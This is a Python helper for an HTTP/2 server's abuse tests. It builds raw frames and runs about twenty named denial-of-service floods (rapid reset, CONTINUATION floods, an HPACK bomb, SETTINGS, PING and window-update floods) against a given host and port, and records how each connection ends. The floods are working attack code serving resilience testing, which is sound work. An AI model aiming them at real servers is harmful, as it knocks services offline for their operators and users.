"""What a visitor over HTTP/2 can do that is meant to hurt, frame by frame; for test_abuse.py.

As a program it is a visitor of its own process, so that whoever measures beside it does not share an interpreter with it:
    h2_attacks.py HOST PORT ATTACK [SECONDS]
prints one JSON line: how the connection ended. With SECONDS it comes again and again for so long, and tells of all.
    h2_attacks.py --sink BYTES
is what an attack costs the attacker alone: it says its port, reads so much of each visitor, one after another, and sends him away.
"""
import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION, PRIORITY_UPDATE = 0, 1, 2, 3, 4, 6, 7, 8, 9, 16
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
CALM = 11
PAUSE = 0.2  # seconds from the end of one attack to the next, of one who comes again
FRAMES = 1000  # that an attack may take until it is cut off


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(value, prefix):
    """An HPACK integer behind the bits that are set in the first byte."""
    most = (1 << prefix) - 1
    if value < most:
        return bytes([value])
    out, value = [most], value - most
    while value >= 128:
        out.append(128 | value & 127)
        value >>= 7
    return bytes([*out, value])


def text(value):
    return number(len(value), 7) + value


def hpack(pairs):
    return b"".join(b"\0" + text(name) + text(value) for name, value in pairs)


def request(host, method=b"GET", path=b"/small.txt", more=()):
    return [(b":method", method), (b":scheme", b"http"), (b":authority", host), (b":path", path), *more]


def headers(stream, pairs, end=True, kind=HEADERS, last=True):
    return frame(kind, (END_STREAM if end else 0) | (END_HEADERS if last else 0), stream, hpack(pairs))


def window(stream, increment):
    return frame(WINDOW, 0, stream, struct.pack(">I", increment))


class Visitor:
    """A connection whose frames are read as far as anybody asks."""

    def __init__(self, address, settings=b"", receive=0):
        self.socket = socket.socket()
        if receive:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
        self.socket.settimeout(30)
        self.socket.connect(address)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.since = time.monotonic()
        self.pending = b""
        self.sent = 0  # bytes that were taken
        self.frames = []  # (kind, flags, stream, payload)
        self.closed = False
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        """False: it is closed."""
        try:
            if not self.closed:
                self.socket.sendall(data)
                self.sent += len(data)
        except OSError:
            self.read(0)  # what it said before it went
            self.closed = True
        return not self.closed

    def read(self, patience, most=65536):
        """Takes in what comes within `patience` seconds; False: nothing."""
        if self.closed or not select.select([self.socket], [], [], patience)[0]:
            return False
        try:
            data = self.socket.recv(most)
        except OSError:
            data = b""
        if not data:
            self.closed = True
            return False
        self.pending += data
        while len(self.pending) >= 9:
            size = int.from_bytes(self.pending[:3], "big")
            if len(self.pending) < 9 + size:
                break
            kind, flags, stream = self.pending[3], self.pending[4], int.from_bytes(self.pending[5:9], "big")
            self.frames.append((kind, flags, stream, self.pending[9:9 + size]))
            self.pending = self.pending[9 + size:]
        return True

    def until(self, condition, patience=20):
        end = time.monotonic() + patience
        while not condition():
            left = end - time.monotonic()
            if left <= 0 or self.closed:
                return condition()
            self.read(min(left, 0.5))
        return True

    def codes(self, kind):
        """Of RST_STREAM or GOAWAY."""
        at = 0 if kind == RST else 4
        return [int.from_bytes(payload[at:at + 4], "big") for one, _, _, payload in self.frames if one == kind]

    def body(self, stream):
        return b"".join(payload for kind, _, one, payload in self.frames if kind == DATA and one == stream)

    def end(self, patience=20):
        """How it ended, if it did."""
        self.until(lambda: self.closed, patience)
        seconds = time.monotonic() - self.since
        self.socket.close()
        goaways = self.codes(GOAWAY)
        return {"closed": self.closed, "goaway": goaways[-1] if goaways else None, "resets": self.codes(RST), "seconds": round(seconds, 1), "sent": self.sent}


def odd(i):
    return 2 * i + 1


BOMB_NAME = b"a"
BOMB_VALUE = b"x" * 3900


def hpack_bomb(host):
    """One large field put into the table, then a byte for each time that it is said again."""
    block = hpack(request(host)) + b"\x40" + text(BOMB_NAME) + text(BOMB_VALUE)
    return block + b"\xbe" * (16_000 - len(block))


# name -> (what it is counted as, what the i-th frame or frames are)
FLOODS = {
    "rapid-reset": ("resets", lambda i, host: headers(odd(i), request(host)) + frame(RST, 0, odd(i), struct.pack(">I", 8))),
    "made-reset-window": ("made_resets", lambda i, host: headers(odd(i), request(host, path=b"/large.bin")) + window(odd(i), 0x7FFFFFFF)),
    "made-reset-malformed": ("made_resets", lambda i, host: headers(odd(i), [(b":method", b"GET")])),
    "made-reset-length": ("made_resets", lambda i, host: headers(odd(i), request(host, b"POST", more=[(b"content-length", b"9")]), end=False)
                          + frame(DATA, END_STREAM, odd(i), b"abc")),
    "continuations": ("continuations", lambda i, host: headers(1, request(host), last=False) if i == 0 else
                      headers(1, [(b"a%d" % i, b"b")], end=False, kind=CONTINUATION, last=False)),
    "empty-continuations": ("continuations", lambda i, host: headers(1, request(host), last=False) if i == 0 else frame(CONTINUATION, 0, 1)),
    "settings": ("settings", lambda i, host: frame(SETTINGS)),
    "settings-entries": ("settings", lambda i, host: frame(SETTINGS, 0, 0, b"\0\x7f\0\0\0\1" * 100)),
    "pings": ("pings", lambda i, host: frame(PING, 0, 0, b"12345678")),
    "empty-data": ("empty_frames", lambda i, host: headers(1, request(host, b"POST"), end=False) if i == 0 else frame(DATA, 0, 1)),
    "padding-alone": ("empty_frames", lambda i, host: headers(1, request(host, b"POST"), end=False) if i == 0 else frame(DATA, PADDED, 1, b"\0")),
    # The stream is one that the server resets: no request is `te: gzip` (RFC 9113 section 8.2.2).
    "late-data": ("empty_frames", lambda i, host: headers(1, request(host, b"POST", more=[(b"te", b"gzip")]), end=False) if i == 0 else frame(DATA, 0, 1, b"x")),
    "late-ends": ("empty_frames", lambda i, host: headers(1, request(host, b"POST", more=[(b"te", b"gzip")]), end=False) if i == 0 else frame(DATA, END_STREAM, 1)),
    "goaways": ("unknown", lambda i, host: headers(1, request(host, b"PUT", b"/put/held"), end=False) if i == 0 else frame(GOAWAY, 0, 0, bytes(8))),
    "priorities": ("priorities", lambda i, host: frame(PRIORITY, 0, odd(i), b"\0\0\0\0\x10")),
    "priority-updates": ("priorities", lambda i, host: headers(1, request(host, path=b"/large.bin")) if i == 0 else
                         frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", 1) + b"u=%d" % (i % 8))),
    "hpack-bomb": ("header_bytes", lambda i, host: frame(HEADERS, END_STREAM | END_HEADERS, odd(i), hpack_bomb(host))),
    "window-updates": ("window_updates", lambda i, host: window(0, 1)),
    "unknown-frames": ("unknown", lambda i, host: frame(0x42, 0, 0, b"?")),
}
# A window of nothing, opened byte by byte: each answers with a frame.
CRUMBS = "window-crumbs"


def flood(address, name, host):
    make = FLOODS[name][1]
    visitor = Visitor(address)
    for i in range(FRAMES):
        if not visitor.send(make(i, host)):
            break
        if i % 20 == 0:
            visitor.read(0)
    return visitor.end()


def crumbs(address, host):
    visitor = Visitor(address, settings=struct.pack(">HI", 4, 0))
    visitor.send(headers(1, request(host, path=b"/large.bin")))
    for _ in range(FRAMES):
        if not visitor.send(window(1, 1)):
            break
        visitor.read(0.001)
    return visitor.end()


def attack(address, name, host):
    return crumbs(address, host) if name == CRUMBS else flood(address, name, host)


def sink(most):
    listener = socket.create_server(("127.0.0.1", 0))
    print(json.dumps({"event": "ready", "port": listener.getsockname()[1]}), flush=True)
    while True:
        visitor, _ = listener.accept()
        left = most
        with visitor:
            try:
                visitor.sendall(frame(SETTINGS))
                while left > 0 and (data := visitor.recv(65536)):
                    left -= len(data)
                    visitor.sendall(frame(DATA, 0, 1, b"x"))  # one who opens windows waits for that
                visitor.sendall(frame(GOAWAY, 0, 0, struct.pack(">II", 0, CALM)))
                visitor.shutdown(socket.SHUT_WR)
                while visitor.recv(65536):
                    pass
            except OSError:
                pass


if __name__ == "__main__" and sys.argv[1] == "--sink":
    sink(int(sys.argv[2]))
elif __name__ == "__main__":
    where, what, for_host = (sys.argv[1], int(sys.argv[2])), sys.argv[3], sys.argv[4].encode()
    until = time.monotonic() + (float(sys.argv[5]) if len(sys.argv) > 5 else 0)
    while True:
        print(json.dumps({"event": "ended", "attack": what, **attack(where, what, for_host)}), flush=True)
        if time.monotonic() >= until:
            break
        time.sleep(PAUSE)
